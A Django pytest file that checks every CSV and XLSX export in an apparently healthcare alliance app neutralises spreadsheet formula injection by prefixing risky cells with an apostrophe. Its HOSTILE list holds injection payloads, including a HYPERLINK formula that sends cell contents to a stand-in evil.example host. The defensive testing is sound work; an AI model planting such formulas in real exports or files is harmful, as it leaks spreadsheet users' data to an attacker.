"""Every spreadsheet export neutralises cells a spreadsheet would run as a formula.

The test finds every export by walking the URL conf (views marked with
`alliance.exports.export_view`), fills a collective with organisations whose names are
formulas, downloads each export and opens it as a spreadsheet program would. A view that
writes CSV or XLSX without the helper fails the source check below.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver

from alliance.exports import DANGEROUS_STARTS, safe_cell
from surveys.tests.conftest import survey  # noqa: F401 - the fixture

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed Surgery",
    "\rReturned Surgery",
]


def _export_routes(resolver: URLResolver | None = None, prefix: str = "") -> list[tuple[str, str]]:
    resolver = resolver or get_resolver()
    found = []
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            found += _export_routes(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern) and getattr(entry.callback, "returns_export", False):
            found.append((entry.name or "", prefix + str(entry.pattern)))
    return found


def test_it_knows_every_export_view():
    names = {name for name, _ in _export_routes()}
    assert names == {
        "round_csv",
        "round_xlsx",
        "services_csv",
        "services_xlsx",
        "service_csv",
        "service_xlsx",
        "measure_csv",
        "measure_xlsx",
        "agreed_csv",
        "agreed_xlsx",
        "service_readiness_export",
        "matrix_export",
        "pressure_csv",
        "pressure_xlsx",
        "overview_csv",
        "overview_xlsx",
        "stakeholders_csv",
        "stakeholders_xlsx",
        "meetings_csv",
        "meetings_xlsx",
        "needs_csv",
        "needs_xlsx",
        "mandates_csv",
        "mandates_xlsx",
        "coverage_export",
        "grid_export",
    }


def test_no_view_writes_a_spreadsheet_without_the_helper():
    writers = re.compile(r"csv\.writer|text/csv|openpyxl|spreadsheetml")
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "bench/")) or "/tests/" in relative:
            continue
        if relative in ("alliance/exports.py",) or relative.startswith("directory/ods/"):
            continue  # the helper itself; the ODS readers read CSV, they write none
        if writers.search(path.read_text()):
            offenders.append(relative)
    assert offenders == []


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell(-2.5) == -2.5 and safe_cell(3) == 3
    assert safe_cell("Oak Surgery") == "Oak Surgery"


def _rows(response) -> list[list[str]]:
    if response["Content-Type"].startswith("text/csv"):
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            rows.append(["" if c.value is None else c.value for c in row])
    return rows


def test_every_export_neutralises_formula_cells(client, survey):  # noqa: F811
    """A round whose organisations are named like formulas: every export writes the names as
    text starting with an apostrophe, and no text cell starts as a formula would."""
    from surveys.models import RoundParticipant

    for rep, name in zip(survey.reps, HOSTILE, strict=False):
        rep.organisation.name = name
        rep.organisation.save()
    for rater in survey.reps:
        for ratee in survey.reps:
            if rater != ratee:
                survey.answer(rater, ratee)
    survey.close()
    assert RoundParticipant.objects.filter(round=survey.round).count() == 4
    client.force_login(survey.convenor.user)
    pks = _shared_services_named_like_formulas(survey)
    _whole_system_named_like_formulas(survey)
    pks["round"] = survey.round.pk
    # Exports that list only what a threshold or a flag lets through may hold no name.
    may_be_empty = {"pressure_csv", "pressure_xlsx"}
    checked = 0
    for name, route in _export_routes():
        kwargs = {
            "slug": survey.round.collective.slug,
            "organisation": survey.reps[0].organisation.pk,
            "pk": next((pk for word, pk in pks.items() if name.startswith(word)), 0),
        }
        url = "/" + re.sub(r"<(?:\w+:)?(\w+)>", lambda m, k=kwargs: str(k[m.group(1)]), route)
        one_route = not url.endswith((".csv", ".xlsx"))  # ?format=csv|xlsx
        for address in [url + "?format=csv", url + "?format=xlsx"] if one_route else [url]:
            response = client.get(address)
            assert response.status_code == 200, address
            assert "attachment" in response["Content-Disposition"]
            cells = [str(value) for row in _rows(response) for value in row]
            if name not in may_be_empty:
                assert any(
                    cell.startswith("'" + hostile) for cell in cells for hostile in HOSTILE[:4]
                ), (address, cells)
            for cell in cells:
                if cell.startswith(DANGEROUS_STARTS):
                    float(cell)  # only numbers (a negative gap) may start so
            checked += 1
    assert checked == 30


def _shared_services_named_like_formulas(survey) -> dict[str, int]:  # noqa: F811
    """A shared service, a way of working, a benefit measure, who does what and a shared
    readiness, all among the organisations named like formulas; the ids their exports
    take, by the first word of the export's name."""
    from shared_services import services, services_matrix, services_readiness

    survey.pcn.name = HOSTILE[0]
    survey.pcn.save()
    service = services.service_create(
        actor_membership=survey.convenor,
        name=HOSTILE[1],
        kind="documents",
        host=survey.reps[0].organisation.pk,
        practices=[rep.organisation.pk for rep in survey.reps],
    )
    way = services.way_add(
        actor_membership=survey.convenor, service=service, title=HOSTILE[2], text="One way."
    )
    services.way_answer(actor_membership=survey.reps[0], way=way, answer="agreed")
    measure = services.measure_add(
        actor_membership=survey.convenor, service=service, name=HOSTILE[3], unit="-days"
    )
    services.measure_values_set(
        actor_membership=survey.convenor, measure=measure, values=[("2025-01", -2)]
    )
    services_readiness.readiness_share(actor_membership=survey.reps[1], service=service)
    services_matrix.matrix_functions_ensure(actor_membership=survey.convenor)
    services_matrix.matrix_first_version_set(
        actor_membership=survey.convenor,
        cells=[{"function": "Estates", "body": f"org:{survey.pcn.pk}", "roles": "RA"}],
    )
    return {"service": service.pk, "measure": measure.pk, "round": 0}


def _whole_system_named_like_formulas(survey) -> None:  # noqa: F811
    """A system organisation, a stakeholder there, a system meeting and a practice's need
    turned into a mandate, each named like a formula."""
    import datetime as dt

    from django.utils import timezone

    from alliance.testing import OrganisationFactory
    from system import services_meetings, services_stakeholders, services_voice

    icb = OrganisationFactory(name=HOSTILE[1], kind="icb")
    stakeholder = services_stakeholders.stakeholder_add(
        actor_membership=survey.convenor, organisation=icb.pk, name=HOSTILE[2], role=HOSTILE[3]
    )
    services_stakeholders.assessment_add(
        actor_membership=survey.convenor, stakeholder=stakeholder, warmth=4, sway=4
    )
    services_meetings.series_create(
        actor_membership=survey.convenor,
        name=HOSTILE[3],
        starts_at=timezone.now() + dt.timedelta(days=7),
    )
    need = services_voice.need_raise(actor_membership=survey.reps[0], title=HOSTILE[0])
    services_voice.mandate_create(
        actor_membership=survey.convenor,
        need=need,
        ask=HOSTILE[2],
        of_whom=icb,
        opening_position=HOSTILE[3],
        limits=HOSTILE[1],
    )
